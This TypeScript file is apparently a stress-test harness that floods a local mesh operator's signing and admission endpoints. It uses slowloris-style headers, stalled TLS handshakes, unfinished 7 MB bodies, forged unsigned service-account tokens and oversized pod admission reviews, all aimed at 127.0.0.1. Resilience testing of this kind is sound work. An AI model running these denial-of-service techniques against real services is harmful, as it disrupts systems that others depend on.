/** A program that attacks an operator: it keeps as many connections open as it is told to, all with the same behaviour, and replaces those that are closed. */
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import type { AddressInfo, Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

/** Told as JSON in the first argument. */
export interface StrangersOrder {
  readonly port: number;
  readonly behaviour: Behaviour;
  /** Connections that are open at a time, and new ones at most in a second. */
  readonly open: number;
  readonly perSecond: number;
  readonly from: 'one address' | 'many addresses';
  /** What requests ask for; default what nothing answers, for certificates where these are. */
  readonly path?: string;
  /** Without TLS. */
  readonly isPlain?: true;
}

export type Behaviour =
  /** Connects and says nothing. */
  | 'silent'
  /** Half of a ClientHello; a whole one, and then nothing. */
  | 'half a hello'
  | 'a whole hello'
  /** A request whose headers come one byte after the other, over TLS or not. */
  | 'slow headers'
  | 'slow headers without TLS'
  /** A request with a body of 7 MB, of which the last byte never comes. */
  | 'unfinished body'
  /** Requests for certificates with tokens that mean nothing, or that look right, one after the other. */
  | 'garbage tokens'
  | 'forged tokens'
  /** Requests without a body, one after the other. */
  | 'requests'
  /** Reviews of pods with so many containers, one after the other. */
  | '4000 containers'
  | '50000 containers';

const STEP_MS = 10;
const BODY_BYTES = 7 * 1024 * 1024;

const order = JSON.parse(process.argv[2] ?? '{}') as StrangersOrder;
const path = order.path ?? (order.behaviour.endsWith('tokens') ? '/v1/sign' : '/validate');
const hello = order.behaviour.endsWith('hello') ? await clientHello() : Buffer.alloc(0);
const containers = Number.parseInt(order.behaviour, 10) || 0;
const review = containers > 0 ? podReview(containers) : '';
let open = 0;
let made = 0;
let ended = 0;
let answered = 0;

const began = performance.now();
for (let due = 0; ;) {
  due = Math.min(((performance.now() - began) / 1000) * order.perSecond, made + order.perSecond / 10);
  while (open < order.open && made < due) attack();
  if (made >= Math.min(order.open, order.perSecond))
    console.log(`attacking; open ${open}, ended ${ended}, answered ${answered}`);
  await sleep(STEP_MS);
}

function attack(): void {
  open += 1;
  made += 1;
  const to = { host: '127.0.0.1', port: order.port, localAddress: address() };
  const isPlain =
    ['silent', 'half a hello', 'a whole hello', 'slow headers without TLS'].includes(order.behaviour) ||
    order.isPlain === true;
  const socket = isPlain
    ? connect(to)
    : connectTls({ ...to, socket: connect(to), rejectUnauthorized: false, minVersion: 'TLSv1.3' });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    open -= 1;
    ended += 1;
  });
  socket.once(isPlain ? 'connect' : 'secureConnect', () => act(socket));
}

function act(socket: Socket): void {
  socket.on('data', () => undefined);
  switch (order.behaviour) {
    case 'silent':
      return;
    case 'half a hello':
      return void socket.write(hello.subarray(0, hello.length / 2));
    case 'a whole hello':
      return void socket.write(hello);
    case 'slow headers':
    case 'slow headers without TLS':
      return slowly(socket, `POST ${path} HTTP/1.1\r\nHost: x\r\nX-Long: ${'a'.repeat(8_000)}\r\n\r\n`);
    case 'unfinished body':
      return body(socket);
    case 'garbage tokens':
    case 'forged tokens':
      return again(socket, () => signing(order.behaviour === 'garbage tokens' ? garbage() : forged()));
    case 'requests':
      return again(socket, () => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`);
    case '4000 containers':
    case '50000 containers':
      return again(socket, () => post(review));
  }
}

function slowly(socket: Socket, text: string): void {
  let at = 0;
  const timer = setInterval(() => {
    if (socket.destroyed || at === text.length) return clearInterval(timer);
    socket.write(text[at] ?? '');
    at += 1;
  }, 100);
}

/** Also where the answer has come already: what matters is what the other side holds. */
function body(socket: Socket): void {
  const chunk = Buffer.alloc(64 * 1024, ' ');
  let left = BODY_BYTES - 1;
  const more = (): void => {
    while (left > 0 && !socket.destroyed) {
      const part = chunk.subarray(0, Math.min(left, chunk.length));
      left -= part.length;
      if (!socket.write(part)) return void socket.once('drain', more);
    }
  };
  socket.write(
    `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`,
  );
  more();
}

/** Sends a request, and the next one when an answer comes. */
function again(socket: Socket, make: () => string): void {
  socket.on('data', () => {
    answered += 1;
    if (socket.writable) socket.write(make());
  });
  socket.write(make());
}

function post(text: string, headers = ''): string {
  return `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${headers}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`;
}

function signing(token: string): string {
  return post('{"csr":"x"}', `Authorization: Bearer ${token}\r\n`);
}

function garbage(): string {
  return Math.random().toString(36).slice(2);
}

/** With claims of a pod that exists, and a signature that does not. */
function forged(): string {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const pod = { name: 'web-1', uid: `uid-${garbage()}` };
  const claims = { namespace: 'shop', pod, serviceaccount: { name: 'web', uid: 'x' } };
  const payload = {
    aud: ['mesh-ca.cluster.local'],
    exp: Math.floor(Date.now() / 1000) + 600,
    'kubernetes.io': claims,
  };
  return `${part({ alg: 'RS256' })}.${part(payload)}.${garbage()}`;
}

/** An AdmissionReview of a pod, each of whose containers has a probe. */
function podReview(count: number): string {
  const probe = count > 10_000 ? {} : { readinessProbe: { httpGet: { path: '/', port: 80 } } };
  return JSON.stringify({
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: 'e5f1c5c0-0000-4000-8000-000000000001',
      kind: { group: '', version: 'v1', kind: 'Pod' },
      resource: { group: '', version: 'v1', resource: 'pods' },
      namespace: 'shop',
      operation: 'CREATE',
      object: {
        metadata: { name: 'big', annotations: { 'mesh/inject': 'true', 'mesh/service': 'big' } },
        spec: {
          containers: Array.from({ length: count }, (_, index) => ({
            name: `c${index}`,
            image: 'i',
            ...probe,
          })),
        },
      },
    },
  });
}

async function clientHello(): Promise<Buffer> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const client = connectTls({
    port: (server.address() as AddressInfo).port,
    host: '127.0.0.1',
    minVersion: 'TLSv1.3',
  });
  client.on('error', () => undefined);
  const [socket] = (await once(server, 'connection')) as [Socket];
  const [bytes] = (await once(socket, 'data')) as [Buffer];
  client.destroy();
  socket.destroy();
  server.close();
  return bytes;
}

/** Of 127.0.0.0/8, but none that the kit gives to others. */
function address(): string {
  if (order.from === 'one address') return '127.0.0.66';
  const part = () => 1 + Math.floor(Math.random() * 250);
  return `127.${2 + Math.floor(Math.random() * 250)}.${part()}.${part()}`;
}
